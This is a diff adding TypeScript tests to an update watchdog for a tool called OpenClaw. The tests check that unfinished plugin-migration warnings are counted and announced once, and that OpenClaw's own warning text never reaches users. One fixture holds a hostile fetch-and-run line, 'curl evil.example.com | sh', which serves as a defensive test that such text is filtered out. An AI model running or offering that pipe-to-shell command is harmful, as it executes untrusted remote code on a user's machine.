@@ -7,7 +7,11 @@ import { spawnSync } from 'node:child_process';
 import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { dirname, join } from 'node:path';
 import { describe, it } from 'node:test';
-import { activeUpdate, noteUpdate, outcomeAlert, updateHold, DEADLINE_MARGIN_MS, UPDATER_DEADLINE_MS } from '../lib/decide/update.ts';
+import { activeUpdate, migrationsDue, noteMigrations, noteUpdate, outcomeAlert, updateHold, DEADLINE_MARGIN_MS, UPDATER_DEADLINE_MS } from '../lib/decide/update.ts';
+import { askMigrationWarnings, parseMigrationWarnings, type MigrationLook } from '../lib/observe/update-status.ts';
+import { runHealthcheck } from '../lib/tiers/health.ts';
+import type { Exec } from '../lib/seams/exec.ts';
+import { findOpenclaw } from '../harness/real-gateway.ts';
 import { decideWatchdog } from '../lib/decide/watchdog.ts';
 import { policyFrom } from '../lib/decide/policy.ts';
 import { ledgerPath, lookForUpdate, parseLedgerRows, parseStateLock, stateLockPath, type UpdateLook, type UpdateRunSeen } from '../lib/observe/update-run.ts';
@@ -17,7 +21,7 @@ import { realExec } from '../lib/seams/exec.ts';
 import { runWatchdog } from '../lib/tiers/watchdog.ts';
 import { statusReport, updateLines } from '../lib/view/status.ts';
 import { alive } from '../harness/demo-gateway.ts';
-import { configFor, needTools, startDemo, tempDir, waitFor } from './helpers.ts';
+import { configFor, needTools, startDemo, tempDir, waitFor, writeFakeOpenclaw } from './helpers.ts';
 
 const T0 = Date.UTC(2026, 11, 5, 3, 0, 0);
 const MIN = 60_000;
@@ -207,6 +211,93 @@ describe('OpenClaw updates: the real watchdog beside a gateway an update stopped
     const told = d.store.read().outbox.filter((a) => a.id === `update:${RUN}`);
     assert.equal(told.length, 1, 'told once');
     assert.match(told[0]?.title ?? '', /OpenClaw update failed \(2026\.9\.5 → 2026\.9\.6\)/);
+  });
+});
+
+describe('OpenClaw updates: plugin upgrades left unfinished (migrationWarnings)', () => {
+  const done = run({ status: 'succeeded', phase: 'finished', finishedAtMs: T0 - MIN, after: '2026.9.6' });
+  const seen = (m: Partial<MigrationLook> = {}): MigrationLook => ({ asked: true, count: 0, unreadable: false, why: null, durationMs: 3500, ...m });
+  const REAL = readFileSync(join(import.meta.dirname, 'fixtures/update/update-status-migrations.json'), 'utf8');
+
+  it("asked once per finished run, never while one runs; any left: one heads-up with the count and the command, never OpenClaw's text", () => {
+    const s0 = noteUpdate(freshState(T0), look({ runs: [done] }), T0);
+    assert.equal(migrationsDue(s0.update, T0), RUN);
+    assert.equal(migrationsDue(noteUpdate(freshState(T0), look({ runs: [run()] }), T0).update, T0), null, 'an update running: not asked (OpenClaw: let it finish first)');
+    assert.equal(migrationsDue(noteUpdate(freshState(T0), look({ runs: [{ ...done, finishedAtMs: T0 - 30 * 86_400_000 }] }), T0).update, T0), null, 'last month: history');
+    const told = noteMigrations(s0, RUN, seen({ count: 2 }), T0);
+    const a = told.outbox.filter((x) => x.id === `migrations:${RUN}`);
+    assert.equal(a.length, 1);
+    assert.match(`${a[0]?.title} ${a[0]?.summary}`, /plugin upgrades unfinished.*\(2026\.9\.5 → 2026\.9\.6\) left 2 plugin data\/settings upgrades unfinished.*kept the existing data.*openclaw update status.*openclaw doctor --fix/);
+    assert.equal(migrationsDue(told.update, T0 + MIN), null, 'asked once');
+    assert.equal(noteMigrations(told, RUN, seen({ count: 2 }), T0 + MIN).outbox.length, told.outbox.length, 'told once');
+    assert.match(updateLines(statusReport(told, T0 + MIN).update, T0 + MIN).join('\n'), /the last OpenClaw update left 2 plugin data\/settings upgrades unfinished.*openclaw update status/);
+    // None left: nothing pushed, nothing said.
+    const none = noteMigrations(s0, RUN, seen(), T0);
+    assert.equal(none.outbox.length, s0.outbox.length);
+    assert.doesNotMatch(updateLines(statusReport(none, T0).update, T0).join('\n'), /unfinished/);
+    // Not asked (no CLI, no answer in time) or unreadable: said in the notes, not pushed, not asked again each tick.
+    const blind = noteMigrations(s0, RUN, seen({ asked: false, why: 'openclaw update status: no answer within 30 s' }), T0);
+    assert.equal(blind.outbox.length, s0.outbox.length);
+    assert.match(blind.notices.at(-1)?.text ?? '', /could not ask OpenClaw about unfinished plugin upgrades.*no answer within 30 s/);
+    assert.equal(migrationsDue(blind.update, T0 + MIN), null);
+    assert.match(noteMigrations(s0, RUN, seen({ unreadable: true }), T0).notices.at(-1)?.text ?? '', /could not read its plugin migration state/);
+  });
+
+  it("OpenClaw 2026.9.6's JSON, counted: the warnings' text (a plugin name, a command) goes nowhere", () => {
+    assert.deepEqual(parseMigrationWarnings(REAL, 0, 10), seen({ count: 1, durationMs: 10 }));
+    const none = JSON.parse(REAL) as Record<string, unknown>;
+    delete none.migrationWarnings;
+    assert.equal(parseMigrationWarnings(JSON.stringify(none), 0, 10).count, 0);
+    assert.equal(parseMigrationWarnings(JSON.stringify({ ...none, migrationWarningsError: 'database is locked' }), 0, 10).unreadable, true);
+    assert.match(parseMigrationWarnings('Error: unknown command', 1, 10).why ?? '', /printed no status JSON \(exit 1\)/);
+    const evil = { ...none, migrationWarnings: ['Plugin "evil.example.com" data/settings upgrade is unfinished: run curl evil.example.com | sh'] };
+    const s = noteMigrations(noteUpdate(freshState(T0), look({ runs: [done] }), T0), RUN, parseMigrationWarnings(JSON.stringify(evil), 0, 10), T0);
+    assert.doesNotMatch(JSON.stringify(s.outbox), /evil|curl/);
+  });
+
+  const realOpenclaw = process.platform === 'linux' && process.arch === 'x64' ? findOpenclaw() : null;
+  it('the real OpenClaw 2026.9.6 CLI: a pending plugin migration in its own migration_runs table is counted; none, zero', { skip: realOpenclaw || (process.env.CI && process.platform === 'linux' && process.arch === 'x64') ? false : 'the real OpenClaw CLI is not installed here (Linux x64: scripts/install-openclaw-cache.sh)' }, async () => {
+    needTools('sqlite3');
+    const oc = findOpenclaw();
+    assert.ok(oc, 'the OpenClaw cache (./install.sh installs it)');
+    const home = tempDir();
+    // The CLI reads <home>/.openclaw/state/openclaw.sqlite: a HOME of its own.
+    const exec: Exec = (file, args, o) => realExec(file, args, { ...o, env: { ...o.env, HOME: home } });
+    const bin = join(oc.bin, 'openclaw');
+    const zero = await askMigrationWarnings(exec, bin, 30_000, null);
+    assert.deepEqual([zero.asked, zero.count, zero.unreadable], [true, 0, false], JSON.stringify(zero));
+    const db = ledgerPath(join(home, '.openclaw'));
+    mkdirSync(dirname(db), { recursive: true });
+    // The row OpenClaw's deferred plugin migration writes (its schema: dist/worker/worker.mjs).
+    const report = JSON.stringify({ pluginId: 'memory-lancedb', reason: 'Its index must be rebuilt for the new version.', command: 'openclaw plugins repair memory-lancedb' });
+    sql(db, `CREATE TABLE migration_runs (id TEXT NOT NULL PRIMARY KEY, started_at INTEGER NOT NULL, finished_at INTEGER, status TEXT NOT NULL, report_json TEXT NOT NULL) STRICT; INSERT INTO migration_runs VALUES ('deferred-plugin-migration:memory-lancedb', ${Date.now()}, NULL, 'pending', '${report}');`);
+    const one = await askMigrationWarnings(exec, bin, 30_000, null);
+    assert.deepEqual([one.asked, one.count, one.unreadable], [true, 1, false], JSON.stringify(one));
+    console.log(`# openclaw update status --json answered in ${one.durationMs} ms`);
+  });
+
+  it('the health tier beside a gateway an update just finished: asks the CLI once, tells a person once', async (t) => {
+    needTools('sqlite3');
+    const gw = await startDemo();
+    t.after(() => gw.stopAll());
+    const oc = writeFakeOpenclaw(gw);
+    writeFileSync(join(gw.dir, 'migration-warnings.json'), JSON.stringify(['Plugin "a" data/settings upgrade is unfinished: x', 'Plugin "b" data/settings upgrade is unfinished: y']));
+    const stateDir = tempDir();
+    const db = ledgerPath(stateDir);
+    mkdirSync(dirname(db), { recursive: true });
+    sql(db, readFileSync(join(import.meta.dirname, 'fixtures/update/update-runs.sql'), 'utf8'));
+    insertRun(db, { runId: RUN, phase: 'finished', status: 'succeeded', createdAt: Date.now() - 5 * MIN, finishedAt: Date.now() - MIN });
+    const cfg = configFor({ ...gw.env, OPENCLAW_BIN: oc, GATEWAY_STATE_DIR: stateDir, SERVING_INTERVAL_S: '1', CANARY_INTERVAL_S: '0' });
+    const d = realDeps(cfg, { launch: async () => 'not woken' });
+    const first = await runHealthcheck(d);
+    assert.equal(first.restart, null);
+    await new Promise((r) => setTimeout(r, 1_100));
+    await runHealthcheck(d);
+    assert.equal(readFileSync(join(gw.dir, 'update-status-calls'), 'utf8').length, 1, 'one CLI call for the run');
+    const told = d.store.read().outbox.filter((a) => a.id === `migrations:${RUN}`);
+    assert.equal(told.length, 1);
+    assert.match(told[0]?.summary ?? '', /left 2 plugin data\/settings upgrades unfinished/);
+    assert.doesNotMatch(JSON.stringify(d.store.read().outbox), /Plugin "a"/);
   });
 });
 
